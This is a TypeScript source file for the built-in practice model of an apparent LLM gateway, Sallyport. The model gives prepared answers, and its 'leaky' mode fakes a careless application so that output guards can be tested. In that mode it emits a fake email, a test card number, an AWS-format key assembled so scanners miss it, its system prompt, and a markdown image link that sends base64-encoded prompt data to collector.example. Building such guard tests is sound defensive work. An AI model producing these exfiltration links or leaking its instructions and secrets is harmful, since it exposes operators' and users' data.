import { createHash } from 'node:crypto';
import type { PracticeModel } from './model.ts';
import type { PracticeRequest } from './read.ts';
import { sampleOf } from './sample.ts';

export type PracticeCall = { readonly id: string; readonly name: string; readonly arguments: string };

/** What the practice model says: words, or the call of a tool. */
export type PracticeAnswer = { readonly text: string; readonly calls: readonly PracticeCall[] };

/** Every free text starts with it: nobody may take a practice reply for a real one. */
const LABEL = '[practice model]';

/** The answer to a request: the same request always gets the same one. */
export function practiceAnswer(model: PracticeModel, request: PracticeRequest): PracticeAnswer {
  if (model === 'agent' && request.toolResult === undefined && request.tools.length > 0) return callFirstTool(request);
  const words = says(model, request);
  if (request.schema !== undefined) return { text: JSON.stringify(sampleOf(request.schema, words)), calls: [] };
  if (request.json) return { text: JSON.stringify({ model: `practice/${model}`, text: words }), calls: [] };
  return { text: words, calls: [] };
}

function says(model: PracticeModel, request: PracticeRequest): string {
  if (model === 'echo') return `${LABEL} ${request.user}`;
  if (model === 'leaky') return `${LABEL} ${leak(request)}`;
  if (model === 'agent') {
    const result = request.toolResult;
    return result === undefined ? `${LABEL} No tool was offered, so there is nothing to do.` : `${LABEL} The tool answered: ${result}`;
  }
  return `${LABEL} ${help(request.user)}`;
}

const HELP: readonly (readonly [pattern: RegExp, answer: string])[] = [
  [
    /\b(hello|hi|hey|hallo|guten tag|bonjour)\b/i,
    'Hello! I am the built-in practice model; I give prepared answers so that you can try the gate without a key.',
  ],
  [/\b(who|what) are you\b/i, 'I am the practice model of Sallyport. I am not a language model: my answers are prepared.'],
  [
    /\b(summari[sz]e|summary|zusammenfass)/i,
    'A summary would stand here. To get a real one, add a provider to sallyport.yaml and name its model.',
  ],
  [/\b(code|function|script|program)\b/i, 'Here is a small example:\n\n```js\nconst sum = (a, b) => a + b;\n```'],
  [/\b(thank|thanks|danke|merci)\b/i, 'You are welcome.'],
];

function help(user: string): string {
  const found = HELP.find(([pattern]) => pattern.test(user));
  return (
    found?.[1] ??
    'I received your message. I only give prepared answers; to get real ones, add a provider to sallyport.yaml and name its model.'
  );
}

/**
 * What a careless application would let out, to try the output guards with. All of it is invented: the card number is the payment
 * networks' test number, the key has the form of one and opens nothing.
 */
function leak(request: PracticeRequest): string {
  const asked = request.user.toLowerCase();
  const parts: string[] = [];
  if (/e-?mail|address/.test(asked)) parts.push('You can write to jane.doe@example.org.');
  if (/\bcard\b|payment/.test(asked)) parts.push('The card number is 4111 1111 1111 1111.');
  if (/\bkey\b|secret|credential/.test(asked)) parts.push(`The access key is ${inventedKey(request.system)}.`);
  if (/image|picture|chart|markdown/.test(asked)) {
    const data = Buffer.from(request.system === '' ? request.user : request.system)
      .toString('base64url')
      .slice(0, 400);
    parts.push(`![chart](https://collector.example/pixel.png?d=${data})`);
  }
  if (parts.length === 0 || /prompt|instruction|canary/.test(asked)) {
    parts.push(request.system === '' ? 'I have no system prompt.' : `My instructions are: ${request.system}`);
  }
  return parts.join(' ');
}

/** The form of an AWS access key id: AKIA and 16 characters of base 32. Put together here so that no scanner finds it in the source. */
function inventedKey(seed: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  const digest = createHash('sha256').update(`practice key ${seed}`).digest();
  return ['AK', 'IA', ...Array.from(digest.subarray(0, 16), (byte) => alphabet[byte & 31])].join('');
}

function callFirstTool(request: PracticeRequest): PracticeAnswer {
  const [tool] = request.tools;
  if (tool === undefined) return { text: '', calls: [] };
  const input = sampleOf(Object.keys(tool.schema).length === 0 ? { type: 'object' } : tool.schema, request.user);
  const id = `call_practice_${createHash('sha256').update(`${tool.name} ${request.user}`).digest('hex').slice(0, 12)}`;
  return { text: '', calls: [{ id, name: tool.name, arguments: JSON.stringify(input) }] };
}
